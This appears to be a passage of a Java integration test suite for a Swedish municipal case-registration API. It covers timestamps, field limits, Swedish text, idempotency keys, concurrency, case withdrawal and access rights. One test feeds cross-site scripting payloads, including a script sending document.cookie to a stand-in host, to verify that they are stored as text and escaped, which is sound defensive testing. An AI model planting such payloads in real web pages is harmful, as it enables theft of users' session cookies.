    OffsetDateTime fore = Diarium.nu().minusSeconds(1);
    String dnr = registrera(skrivelse(n -> n.remove("inkom")));

    JsonNode arende = api.get(INTEGRATION, arende(dnr)).json();
    assertThat(OffsetDateTime.parse(arende.path("inkom").asText())).isAfterOrEqualTo(fore.withNano(0));
    assertThat(dnr).startsWith("KS-" + Diarium.idag().getYear() + "-");
  }

  @Test
  void inkomUpToFiveMinutesAheadOfOurClockIsAcceptedAsClockSkewAndLaterIsRefused() {
    assertThat(Skrivelseinlamning.KLOCKSKILLNAD).isEqualTo(java.time.Duration.ofMinutes(5));
    OffsetDateTime fyraMinuter = Diarium.nu().plusMinutes(4).withNano(0);
    String dnr = registrera(skrivelse(n -> n.put("inkom", fyraMinuter.toString())));
    assertThat(OffsetDateTime.parse(api.get(INTEGRATION, arende(dnr)).json().path("inkom").asText()).toInstant())
        .isEqualTo(fyraMinuter.toInstant());

    Api.Svar sexMinuter = api.postJson(INTEGRATION, SKRIVELSER,
        skrivelse(n -> n.put("inkom", Diarium.nu().plusMinutes(6).withNano(0).toString())));
    assertThat(sexMinuter.status()).isEqualTo(400);
    assertThat(sexMinuter.json().path("detail").asText())
        .contains("ligger i framtiden (mer än 5 minuter efter systemets klocka)");
  }

  @Test
  void valuesExactlyAtTheLimitsAreAccepted() {
    String dnr = registrera(skrivelse(n -> {
      n.put("rubrik", "R".repeat(500));
      avs(n).put("namn", "N".repeat(200));
      fragor(n, 30, 2000);
      n.put("text", "t".repeat(1_000_000));
    }));

    JsonNode arende = api.get(INTEGRATION, arende(dnr)).json();
    assertThat(arende.path("rubrik").asText()).hasSize(500);
    assertThat(arende.path("avsandare").path("namn").asText()).hasSize(200);
    assertThat(arende.path("handlingar").get(0).path("storlek").asLong()).isEqualTo(1_000_000);
  }

  @Test
  void swedishLettersAreAcceptedAndStoredIntact() {
    String rubrik = "Skrivelse om åtgärder för Årstafältet, Älvsjö och Östermalm – ”ÅÄÖ åäö é ü”";
    String namn = "Åsa Ärlebäck-Östlund";
    String fraga = "Hur många bostäder ska byggas på Årstafältet år 2026?";
    String text = "Vi frågar borgarrådet om åtgärderna i Älvsjö.\nMed vänliga hälsningar, Åsa";
    String filnamn = "Skrivelse från Åsa – Årstafältet, Älvsjö & Östermalm.pdf";
    String dnr = registreraMultipart(new Multipart()
        .json("skrivelse", skrivelse(n -> {
          n.put("rubrik", rubrik);
          avs(n).put("namn", namn).put("roll", "ersättare");
          n.putArray("fragor").add(fraga);
          n.put("text", text);
        }))
        .del("fil", filnamn, "application/pdf", PDF));

    JsonNode arende = api.get(INTEGRATION, arende(dnr)).json();
    assertThat(arende.path("rubrik").asText()).isEqualTo(rubrik);
    assertThat(arende.path("avsandare").path("namn").asText()).isEqualTo(namn);
    assertThat(arende.path("avsandare").path("roll").asText()).isEqualTo("ersättare");
    JsonNode skrivelse = arende.path("handlingar").get(0);
    assertThat(skrivelse.path("rubrik").asText()).isEqualTo(rubrik);
    assertThat(skrivelse.path("filnamn").asText()).isEqualTo(filnamn);
    assertThat(skrivelse.path("avsandare").asText()).startsWith(namn);

    Api.Svar fil = api.get(INTEGRATION, arende(dnr) + "/handlingar/1/innehall");
    assertThat(fil.status()).isEqualTo(200);
    assertThat(fil.body()).isEqualTo(PDF);
    assertThat(filnamnEnligtRfc5987(fil.header("Content-Disposition"))).isEqualTo(filnamn);
    String lagrad = jdbc.queryForObject("select rubrik from arende where diarienummer = ?", String.class,
        Diarienummer.parse(dnr).toString());
    assertThat(lagrad).isEqualTo(rubrik);
  }

  @Test
  void htmlAndScriptAreAcceptedAsTextStoredVerbatimAndNeverServedAsHtml() {
    String rubrik = "<script>alert('rubrik')</script> & <b>fet</b> \"citat\"";
    String text = "<html><body onload=\"alert(document.cookie)\"><img src=x onerror=alert(1)>"
        + "<script>fetch('https://example.invalid/?c='+document.cookie)</script></body></html>";
    String dnr = registrera(skrivelse(n -> {
      n.put("rubrik", rubrik);
      avs(n).put("namn", "<i>Jan</i> Jönsson");
      n.put("text", text);
    }));

    Api.Svar svar = api.get(INTEGRATION, arende(dnr));
    assertThat(svar.contentType()).startsWith("application/json");
    assertThat(svar.json().path("rubrik").asText()).isEqualTo(rubrik);
    assertThat(svar.json().path("avsandare").path("namn").asText()).isEqualTo("<i>Jan</i> Jönsson");

    Api.Svar innehall = api.get(INTEGRATION, arende(dnr) + "/handlingar/1/innehall");
    assertThat(innehall.status()).isEqualTo(200);
    assertThat(innehall.contentType()).isEqualToIgnoringCase("text/plain;charset=UTF-8");
    assertThat(innehall.header("X-Content-Type-Options")).isEqualTo("nosniff");
    assertThat(innehall.header("Content-Disposition")).startsWith("attachment");
    assertThat(innehall.text()).isEqualTo(text);
    assertThat(innehall.header("X-Checksum-SHA256"))
        .isEqualTo(Innehallskontroll.sha256(text.getBytes(StandardCharsets.UTF_8)));

    // the officials' page of the ärende shows it as text, escaped
    Api.Svar sida = api.get(INTEGRATION, "/arenden/" + dnr);
    assertThat(sida.status()).isEqualTo(200);
    assertThat(sida.contentType()).startsWith("text/html");
    assertThat(sida.text()).contains("&lt;script&gt;alert(&#39;rubrik&#39;)&lt;/script&gt;")
        .doesNotContain("<script>alert('rubrik')").doesNotContain("<i>Jan</i>");
  }

  @Test
  void aTextFileNamedPdfIsStoredAsTheTextItIs() {
    byte[] text = "Det här är ingen PDF utan vanlig text från Älvsjö.\n".getBytes(StandardCharsets.UTF_8);
    String dnr = registreraMultipart(new Multipart()
        .json("skrivelse", giltigSkrivelse().toString())
        .del("fil", "skrivelse.pdf", "application/pdf", text));

    Api.Svar fil = api.get(INTEGRATION, arende(dnr) + "/handlingar/1/innehall");
    assertThat(fil.contentType()).startsWith("text/plain");
    assertThat(fil.body()).isEqualTo(text);
  }

  // --- Idempotency-Key ---------------------------------------------------------------------------

  @Test
  void theSameIdempotencyKeyAndRequestReplaysTheFirstAnswerAndCreatesNothing() {
    String nyckel = UUID.randomUUID().toString();
    String body = skrivelse(n -> n.put("rubrik", "Idempotent skrivelse"));
    Api.Svar forsta = api.postJson(INTEGRATION, SKRIVELSER, body, "Idempotency-Key", nyckel);
    assertThat(forsta.status()).as(forsta.toString()).isEqualTo(201);
    assertThat(forsta.header("Idempotent-Replayed")).isNull();
    Map<String, Object> efterForsta = Databasrader.rakna(jdbc);

    Api.Svar andra = api.postJson(INTEGRATION, SKRIVELSER, body, "Idempotency-Key", nyckel);

    assertThat(andra.status()).isEqualTo(201);
    assertThat(andra.header("Idempotent-Replayed")).isEqualTo("true");
    assertThat(andra.header("Location")).isEqualTo(forsta.header("Location"));
    assertThat(andra.json()).isEqualTo(forsta.json());
    assertThat(Databasrader.rakna(jdbc)).isEqualTo(efterForsta);
  }

  @Test
  void theSameIdempotencyKeyWithAnotherRequestIsRefusedWith422() {
    String nyckel = UUID.randomUUID().toString();
    assertThat(api.postJson(INTEGRATION, SKRIVELSER, skrivelse(n -> n.put("rubrik", "Första")), "Idempotency-Key", nyckel)
        .status()).isEqualTo(201);
    Map<String, Object> fore = Databasrader.rakna(jdbc);

    Api.Svar svar = api.postJson(INTEGRATION, SKRIVELSER, skrivelse(n -> n.put("rubrik", "Andra")), "Idempotency-Key", nyckel);

    assertThat(svar.status()).isEqualTo(422);
    assertThat(svar.contentType()).startsWith("application/problem+json");
    assertThat(svar.json().path("detail").asText()).contains(nyckel).contains("annan begäran");
    assertThat(Databasrader.rakna(jdbc)).isEqualTo(fore);
  }

  @Test
  void aMultipartRetryWithTheSameFileReplaysAndWithAnotherFileIsRefused() {
    String nyckel = UUID.randomUUID().toString();
    String skrivelse = giltigSkrivelse().toString();
    Api.Svar forsta = api.postMultipart(INTEGRATION, SKRIVELSER,
        new Multipart().json("skrivelse", skrivelse).del("fil", "s.pdf", "application/pdf", PDF), "Idempotency-Key", nyckel);
    assertThat(forsta.status()).as(forsta.toString()).isEqualTo(201);
    Map<String, Object> fore = Databasrader.rakna(jdbc);

    Api.Svar igen = api.postMultipart(INTEGRATION, SKRIVELSER,
        new Multipart().json("skrivelse", skrivelse).del("fil", "s.pdf", "application/pdf", PDF), "Idempotency-Key", nyckel);
    byte[] annanPdf = (new String(PDF, StandardCharsets.US_ASCII) + "% annan\n").getBytes(StandardCharsets.US_ASCII);
    Api.Svar annan = api.postMultipart(INTEGRATION, SKRIVELSER,
        new Multipart().json("skrivelse", skrivelse).del("fil", "s.pdf", "application/pdf", annanPdf), "Idempotency-Key", nyckel);

    assertThat(igen.status()).isEqualTo(201);
    assertThat(igen.header("Idempotent-Replayed")).isEqualTo("true");
    assertThat(igen.json()).isEqualTo(forsta.json());
    assertThat(annan.status()).isEqualTo(422);
    assertThat(Databasrader.rakna(jdbc)).isEqualTo(fore);
  }

  @Test
  void aFailedRequestFreesItsIdempotencyKey() {
    String nyckel = UUID.randomUUID().toString();
    assertThat(api.postJson(INTEGRATION, SKRIVELSER, skrivelse(n -> n.remove("rubrik")), "Idempotency-Key", nyckel)
        .status()).isEqualTo(400);

    Api.Svar svar = api.postJson(INTEGRATION, SKRIVELSER, giltigSkrivelse().toString(), "Idempotency-Key", nyckel);

    assertThat(svar.status()).as(svar.toString()).isEqualTo(201);
    assertThat(svar.header("Idempotent-Replayed")).isNull();
  }

  @Test
  void idempotencyKeysBelongToTheUser() {
    String nyckel = UUID.randomUUID().toString();
    String body = giltigSkrivelse().toString();
    Api.Svar integration = api.postJson(INTEGRATION, SKRIVELSER, body, "Idempotency-Key", nyckel);
    Api.Svar registrator = api.postJson("registrator", SKRIVELSER, body, "Idempotency-Key", nyckel);

    assertThat(integration.status()).isEqualTo(201);
    assertThat(registrator.status()).isEqualTo(201);
    assertThat(registrator.header("Idempotent-Replayed")).isNull();
    assertThat(registrator.header("Location")).isNotEqualTo(integration.header("Location"));
  }

  @Test
  void aRetryAfterARequestThatDiedWithoutAnAnswerIsProcessedAtOnce() {
    // what a request leaves that took the key and then lost its node (or its database) before it
    // committed: the key's row, without an answer, held by no one
    String nyckel = UUID.randomUUID().toString();
    jdbc.update("insert into idempotens (nyckel, anvandare, begaran_hash, status, skapad) values (?, ?, ?, 'PAGAR', ?)",
        nyckel, INTEGRATION, "en-annan-begaran", OffsetDateTime.now());

    long start = System.nanoTime();
    Api.Svar svar = api.postJson(INTEGRATION, SKRIVELSER, giltigSkrivelse().toString(), "Idempotency-Key", nyckel);

    assertThat(svar.status()).as(svar.toString()).isEqualTo(201);
    assertThat(svar.header("Idempotent-Replayed")).isNull();
    assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(10));
    Api.Svar igen = api.postJson(INTEGRATION, SKRIVELSER, giltigSkrivelse().toString(), "Idempotency-Key", nyckel);
    assertThat(igen.header("Idempotent-Replayed")).isEqualTo("true");
    assertThat(igen.header("Location")).isEqualTo(svar.header("Location"));
  }

  @Test
  void whileTheFirstRequestHoldsItsKeyARetryIs409AndOnceItsConnectionDiesTheRetryIsProcessed() throws Exception {
    String nyckel = UUID.randomUUID().toString();
    String body = skrivelse(n -> n.put("rubrik", "Nyckel hållen " + nyckel));
    jdbc.update("insert into idempotens (nyckel, anvandare, begaran_hash, status, skapad) values (?, ?, ?, 'PAGAR', ?)",
        nyckel, INTEGRATION, "h", OffsetDateTime.now());
    // a first request in the middle of its work holds the key's row in its transaction
    java.sql.Connection forsta = dataSource.getConnection();
    try {
      forsta.setAutoCommit(false);
      try (var s = forsta.prepareStatement("select status from idempotens where anvandare = ? and nyckel = ? for update")) {
        s.setString(1, INTEGRATION);
        s.setString(2, nyckel);
        s.executeQuery().close();
      }
      long start = System.nanoTime();
      Api.Svar medan = api.postJson(INTEGRATION, SKRIVELSER, body, "Idempotency-Key", nyckel);
      assertThat(medan.status()).as(medan.toString()).isEqualTo(409);
      assertThat(medan.contentType()).startsWith("application/problem+json");
      assertThat(medan.json().path("detail").asText()).contains("behandlas redan");
      assertThat(Duration.ofNanos(System.nanoTime() - start)).as("utan att vänta på låset").isLessThan(Duration.ofSeconds(5));
    } finally {
      // its node dies: the database ends the transaction with the connection
      forsta.rollback();
      forsta.close();
    }
    Api.Svar efter = api.postJson(INTEGRATION, SKRIVELSER, body, "Idempotency-Key", nyckel);
    assertThat(efter.status()).as(efter.toString()).isEqualTo(201);
    assertThat(efter.header("Idempotent-Replayed")).isNull();
    assertThat(jdbc.queryForObject("select count(*) from arende where rubrik = ?", Long.class, "Nyckel hållen " + nyckel))
        .isEqualTo(1);
  }

  @Test
  void aNumberWhoseRegistrationWasInterruptedIsVisibleAtOnceAndVoidAfterTheSweep() {
    // what a node leaves that died between taking the number and completing the registration
    Diarienummer dnr = Diarienummer.parse("KS 2013/1");
    jdbc.update("insert into diarienummer_serie (diarium, ar, senaste_lopnummer) values ('KS', 2013, 1)");
    jdbc.update("""
        insert into arende (diarienummer, diarium, ar, lopnummer, arendetyp, rubrik, status, inkom_datum, inkom_tid,
          avsandare_namn, registrerad_tid, reserverad_tid)
        values (?, 'KS', 2013, 1, 'SKRIVELSE', 'Avbruten registrering', 'REGISTRERAS', ?, ?, 'Jan Jönsson', ?, current_timestamp)""",
        dnr.toString(), LocalDate.of(2013, 2, 1), OffsetDateTime.parse("2013-02-01T10:00:00+01:00"),
        OffsetDateTime.parse("2013-02-01T10:00:00+01:00"));

    Api.Svar genast = api.get(INTEGRATION, arende(dnr.urlForm()));
    assertThat(genast.status()).as(genast.toString()).isEqualTo(200);
    assertThat(genast.json().path("status").asText()).isEqualTo("REGISTRERAS");
    assertThat(genast.json().path("rubrik").asText()).isEqualTo("Avbruten registrering");
    // not yet void: a registration that just took its number may not hold its row yet
    assertThat(nummerserie.makuleraOvergivna()).doesNotContain(dnr.toString());

    jdbc.update("update arende set reserverad_tid = reserverad_tid - interval '2' minute where diarienummer = ?",
        dnr.toString());
    assertThat(nummerserie.makuleraOvergivna()).containsExactly(dnr.toString());
    Api.Svar sedan = api.get(INTEGRATION, arende(dnr.urlForm()));
    assertThat(sedan.json().path("status").asText()).isEqualTo("MAKULERAT");
    assertThat(sedan.json().path("handelser").get(0).path("beskrivning").asText()).contains("makulerades");
  }

  @Test
  void theDemoClockIsTheClustersAMoveByAnotherNodeIsFollowedWithinSeconds() throws Exception {
    // another node on the same database moves the clock
    jdbc.update("update demo_klocka set tid = ?, version = version + 1 where id = 1",
        OffsetDateTime.parse("2031-03-03T12:00:00+01:00"));
    try {
      long start = System.nanoTime();
      String tid = "";
      while (System.nanoTime() - start < 5_000_000_000L && !tid.startsWith("2031-03-03T12:00")) {
        Thread.sleep(200);
        tid = api.get("admin", "/api/v1/demo/klocka").json().path("tid").asText();
      }
      assertThat(tid).as("följer klustrets klocka inom 5 s").startsWith("2031-03-03T12:00");
      // a move through this node is written for the others
      assertThat(api.send("admin", "PUT", "/api/v1/demo/klocka", "application/json",
          "{\"tid\":\"2031-04-04T08:00:00+02:00\"}".getBytes(StandardCharsets.UTF_8)).status()).isEqualTo(200);
      assertThat(jdbc.queryForObject("select tid from demo_klocka where id = 1", OffsetDateTime.class).toInstant())
          .isEqualTo(OffsetDateTime.parse("2031-04-04T08:00:00+02:00").toInstant());
    } finally {
      assertThat(api.send("admin", "DELETE", "/api/v1/demo/klocka", null, null).status()).isEqualTo(200);
    }
    assertThat(jdbc.queryForObject("select tid from demo_klocka where id = 1", OffsetDateTime.class)).isNull();
    assertThat(Diarium.nu().getYear()).isLessThan(2031);
  }

  @Test
  void concurrentDuplicatesWithOneKeyCreateExactlyOneCase() throws Exception {
    String nyckel = UUID.randomUUID().toString();
    String body = skrivelse(n -> n.put("rubrik", "Samtidiga dubbletter " + nyckel));
    long arendenFore = rader("arende");
    int tradar = 8;
    ExecutorService pool = Executors.newFixedThreadPool(tradar);
    CountDownLatch start = new CountDownLatch(1);
    try {
      List<Future<Api.Svar>> svar = new ArrayList<>();
      for (int i = 0; i < tradar; i++) {
        svar.add(pool.submit(() -> {
          start.await();
          return api.postJson(INTEGRATION, SKRIVELSER, body, "Idempotency-Key", nyckel);
        }));
      }
      start.countDown();
      List<Api.Svar> alla = new ArrayList<>();
      for (Future<Api.Svar> f : svar) {
        alla.add(f.get(120, TimeUnit.SECONDS));
      }

      assertThat(rader("arende")).isEqualTo(arendenFore + 1);
      assertThat(jdbc.queryForObject("select count(*) from arende where rubrik = ?", Long.class,
          "Samtidiga dubbletter " + nyckel)).isEqualTo(1);
      assertThat(alla).allSatisfy(s -> assertThat(s.status()).as(s.toString()).isIn(201, 409));
      List<Api.Svar> skapade = alla.stream().filter(s -> s.status() == 201).toList();
      assertThat(skapade.stream().filter(s -> s.header("Idempotent-Replayed") == null)).hasSize(1);
      assertThat(skapade.stream().map(s -> s.header("Location")).distinct()).hasSize(1);
      alla.stream().filter(s -> s.status() == 409).forEach(s -> {
        assertThat(s.contentType()).startsWith("application/problem+json");
        assertThat(s.json().path("detail").asText()).contains("behandlas redan");
      });
      // once the first is done, a retry gets the replay
      Api.Svar senare = api.postJson(INTEGRATION, SKRIVELSER, body, "Idempotency-Key", nyckel);
      assertThat(senare.status()).isEqualTo(201);
      assertThat(senare.header("Idempotent-Replayed")).isEqualTo("true");
      assertThat(senare.header("Location")).isEqualTo(skapade.get(0).header("Location"));
    } finally {
      pool.shutdownNow();
    }
  }

  // --- following and withdrawing -----------------------------------------------------------------

  @Test
  void theDiarienummerWorksInThePathInUrlFormAndEncoded() {
    String dnr = registrera(giltigSkrivelse().toString());
    String skriven = Diarienummer.parse(dnr).toString();
    String kodad = skriven.replace(" ", "%20").replace("/", "%2F");

    Api.Svar urlForm = api.get(INTEGRATION, "/api/v1/arenden/" + dnr);
    Api.Svar kodat = api.get(INTEGRATION, "/api/v1/arenden/" + kodad);
    Api.Svar handlingar = api.get(INTEGRATION, "/api/v1/arenden/" + kodad + "/handlingar");

    assertThat(urlForm.status()).isEqualTo(200);
    assertThat(kodat.status()).as(kodat.toString()).isEqualTo(200);
    assertThat(kodat.json().path("diarienummer").asText()).isEqualTo(skriven);
    assertThat(kodat.json()).isEqualTo(urlForm.json());
    assertThat(handlingar.json().get(0).path("dokumentnummer").asText()).isEqualTo(skriven + "-1");
  }

  @Test
  void anOpenCaseIsWithdrawnAndKeepsItsHandlingar() {
    String dnr = registrera(giltigSkrivelse().toString());
    JsonNode fore = api.get(INTEGRATION, arende(dnr)).json();
    String processInstans = jdbc.queryForObject("select process_instance_id from arende where diarienummer = ?",
        String.class, Diarienummer.parse(dnr).toString());
    assertThat(taskService.createTaskQuery().processInstanceId(processInstans).count()).isPositive();

    Api.Svar svar = api.postJson(INTEGRATION, "/api/v1/arenden/" + Diarienummer.parse(dnr).toString()
        .replace(" ", "%20").replace("/", "%2F") + "/aterkallelse", "{\"motivering\":\"Frågan är besvarad på annat sätt.\"}");

    assertThat(svar.status()).as(svar.toString()).isEqualTo(200);
    JsonNode efter = svar.json();
    assertThat(efter.path("status").asText()).isEqualTo("ATERKALLAT");
    assertThat(efter.path("avslutad").asText()).isEqualTo(Diarium.idag().toString());
    assertThat(efter.path("aktuellaSteg")).isEmpty();
    assertThat(efter.path("handlingar").get(0)).isEqualTo(fore.path("handlingar").get(0));
    assertThat(efter.path("handlingar").get(1).path("handlingstyp").asText()).isEqualTo("ATERKALLELSE");
    assertThat(api.get(INTEGRATION, arende(dnr) + "/handlingar/1/innehall").status()).isEqualTo(200);
    assertThat(taskService.createTaskQuery().processInstanceId(processInstans).count()).isZero();
    // what is left is the delivery to the e-arkiv, a job of its own after a save point; then the process ends
    var leverans = managementService.createJobQuery().processInstanceId(processInstans).singleResult();
    assertThat(runtimeService.getActiveActivityIds(processInstans)).containsExactly("Task_LevereraAterkallatTillEarkiv");
    managementService.executeJob(leverans.getId());
    assertThat(runtimeService.createProcessInstanceQuery().processInstanceId(processInstans).count()).isZero();
    List<String> handelser = new ArrayList<>();
    efter.path("handelser").forEach(h -> handelser.add(h.path("typ").asText()));
    assertThat(handelser).contains("REGISTRERAT", "ATERKALLAT");
  }

  // --- rights --------------------------------------------------------------------------------------

  @Test
  void rotel1MayReadACaseAndItsHandlingar() {
    assertThat(api.get("rotel1", arende(oppet)).status()).isEqualTo(200);
    assertThat(api.get("rotel1", arende(oppet) + "/handlingar").status()).isEqualTo(200);
    assertThat(api.get("rotel1", arende(oppet) + "/handlingar/1/innehall").status()).isEqualTo(200);
  }

  @Test
  void theIntegrationMayNotCompleteAUsersTaskThroughTheEngineRestApi() {
    String processInstans = jdbc.queryForObject("select process_instance_id from arende where diarienummer = ?",
        String.class, Diarienummer.parse(oppet).toString());
    Task uppgift = taskService.createTaskQuery().processInstanceId(processInstans).singleResult();
    Map<String, Object> fore = Databasrader.rakna(jdbc);

    Api.Svar svar = api.postJson(INTEGRATION, "/engine-rest/task/" + uppgift.getId() + "/complete", "{\"variables\":{}}");

    assertThat(svar.status()).as(svar.toString()).isEqualTo(403);
    assertThat(taskService.createTaskQuery().taskId(uppgift.getId()).count()).isEqualTo(1);
    assertThat(Databasrader.rakna(jdbc)).isEqualTo(fore);
  }

  // --- the engine's own REST start -----------------------------------------------------------------

  @Test
  void theEngineRestStartWithValidVariablesStartsACaseWhoseBusinessKeyIsTheDiarienummer() {
    Api.Svar svar = motorstart(Map.of(
        "rubrik", variabel("Skrivelse via motorns REST-API om Årsta", "String"),
        "avsandareNamn", variabel("Örjan Åkesson", "String"),
        "avsandareParti", variabel("M", "String"),
        "avsandareRoll", variabel("ledamot", "String"),
        "inkom", variabel("2025-11-27T10:00:00+01:00", "String"),
        "fragor", variabel("[\"Vad kostar det?\",\"När blir det klart?\"]", "Json"),
        "skrivelseText", variabel("Text via motorn.", "String")));

    assertThat(svar.status()).as(svar.toString()).isEqualTo(200);
    String id = svar.json().path("id").asText();
    String businessKey = svar.json().path("businessKey").asText();
    Diarienummer dnr = Diarienummer.parse(businessKey);
    assertThat(dnr.ar()).isEqualTo(2025);
    assertThat(historyService.createHistoricProcessInstanceQuery().processInstanceId(id).singleResult().getBusinessKey())
        .isEqualTo(dnr.toString());
    assertThat(jdbc.queryForObject("select process_instance_id from arende where diarienummer = ?", String.class,
        dnr.toString())).isEqualTo(id);
    JsonNode arende = api.get(INTEGRATION, "/api/v1/arenden/" + dnr.urlForm()).json();
    assertThat(arende.path("rubrik").asText()).isEqualTo("Skrivelse via motorns REST-API om Årsta");
    assertThat(arende.path("avsandare").path("namn").asText()).isEqualTo("Örjan Åkesson");
    Api.Svar text = api.get(INTEGRATION, "/api/v1/arenden/" + dnr.urlForm() + "/handlingar/1/innehall");
    assertThat(text.text()).isEqualTo("Text via motorn.");
  }

  // --- helpers ---------------------------------------------------------------------------------------

  private Fall fall(String namn, int status, String falt, String detalj, Supplier<Api.Svar> begaran) {
    return new Fall(namn, status, falt, detalj, begaran);
  }

  static ObjectNode giltigSkrivelse() {
    ObjectNode n = JSON.createObjectNode();
    n.put("rubrik", "Skrivelse angående stadens inbjudan till Mayors summit i Paris");
    n.putObject("avsandare").put("namn", "Jan Jönsson").put("parti", "L").put("roll", "oppositionsborgarråd");
    n.put("inkom", "2025-11-26T10:15:00+01:00");
    n.putArray("fragor").add("Vem bjöd in borgarrådet?").add("Vad kostar resan?");
    n.put("text", "Skrivelsens text.");
    return n;
  }

  static String skrivelse(Consumer<ObjectNode> andring) {
    ObjectNode n = giltigSkrivelse();
    andring.accept(n);
    return n.toString();
  }

  static ObjectNode avs(ObjectNode n) {
    return (ObjectNode) n.get("avsandare");
  }

  static void fragor(ObjectNode n, int antal, int langd) {
    ArrayNode a = n.putArray("fragor");
    for (int i = 0; i < antal; i++) {
      a.add(String.valueOf(i % 10).repeat(langd));
    }
  }

  private Api.Svar skrivelseJson(Consumer<ObjectNode> andring) {
    return api.postJson(INTEGRATION, SKRIVELSER, skrivelse(andring), "Idempotency-Key", UUID.randomUUID().toString());
  }

  private Api.Svar skrivelseRa(String contentType, String body) {
    return api.send(INTEGRATION, "POST", SKRIVELSER, contentType, body.getBytes(StandardCharsets.UTF_8),
        "Idempotency-Key", UUID.randomUUID().toString());
  }

  private Api.Svar multipart(Multipart m) {
    return api.postMultipart(INTEGRATION, SKRIVELSER, m, "Idempotency-Key", UUID.randomUUID().toString());
  }

  private Api.Svar medFil(Multipart m) {
    return api.postMultipart(INTEGRATION, SKRIVELSER + "/med-fil", m, "Idempotency-Key", UUID.randomUUID().toString());
  }

  private Api.Svar handlingJson(String dnr, String json) {
    return api.postJson(INTEGRATION, arende(dnr) + "/handlingar", json, "Idempotency-Key", UUID.randomUUID().toString());
  }

  private Api.Svar handling(String dnr, String metadata, String filnamn, byte[] fil) {
    return api.postMultipart(INTEGRATION, arende(dnr) + "/handlingar",
        new Multipart().json("handling", metadata).del("fil", filnamn, "application/pdf", fil),
        "Idempotency-Key", UUID.randomUUID().toString());
  }

  private Api.Svar motorstart(Map<String, JsonNode> variabler) {
    ObjectNode body = JSON.createObjectNode();
    ObjectNode vars = body.putObject("variables");
    variabler.forEach(vars::set);
    return api.postJson(INTEGRATION, ENGINE_START, body.toString());
  }

  static JsonNode variabel(Object value, String typ) {
    ObjectNode v = JSON.createObjectNode();
    v.set("value", JSON.valueToTree(value));
    if (typ != null) {
      v.put("type", typ);
    }
    return v;
  }

  /** @return the new ärende's diarienummer in URL form */
  String registrera(String json) {
    Api.Svar svar = api.postJson(INTEGRATION, SKRIVELSER, json);
    assertThat(svar.status()).as(svar.toString()).isEqualTo(201);
    assertThat(svar.header("Location")).isEqualTo(svar.json().path("url").asText());
    return svar.json().path("url").asText().substring("/api/v1/arenden/".length());
  }

  private String registreraMultipart(Multipart m) {
    Api.Svar svar = api.postMultipart(INTEGRATION, SKRIVELSER, m);
    assertThat(svar.status()).as(svar.toString()).isEqualTo(201);
    return svar.json().path("url").asText().substring("/api/v1/arenden/".length());
  }

  static String arende(String urlForm) {
    return "/api/v1/arenden/" + urlForm;
  }

  private long rader(String tabell) {
    return jdbc.queryForObject("select count(*) from " + tabell, Long.class);
  }

  static byte[] pdfAvStorlek(int storlek) {
    byte[] b = new byte[storlek];
    System.arraycopy(PDF, 0, b, 0, PDF.length);
    return b;
  }

  /** A Swedish message: no English from a library, no class or package names. */
  static void assertSvenska(String text) {
    assertThat(text).isNotBlank();
    // header names and media types are the protocol's own words
    String utanProtokoll = text.replaceAll("(?i)Content-Type|Idempotency-Key|[\\w.+-]+/[\\w.+*-]+", "");
    assertThat(utanProtokoll).as(text)
        .doesNotContainPattern("(?i)\\b(the|is|not|cannot|failed|required|unexpected|exception|error|unauthorized|"
            + "forbidden|found|bad request|unsupported|method|value|type)\\b")
        .doesNotContain("se.stockholm", "java.", "com.fasterxml", "org.springframework", "org.camunda");
  }

  /**
   * @param contentDisposition a Content-Disposition header
   * @return the decoded {@code filename*} (RFC 5987, UTF-8)
   */
  static String filnamnEnligtRfc5987(String contentDisposition) {
    var m = java.util.regex.Pattern.compile("filename\\*=UTF-8''([^;\\s]+)", java.util.regex.Pattern.CASE_INSENSITIVE)
        .matcher(contentDisposition);
    assertThat(m.find()).as(contentDisposition).isTrue();
    return java.net.URLDecoder.decode(m.group(1).replace("+", "%2B"), StandardCharsets.UTF_8);
  }
}
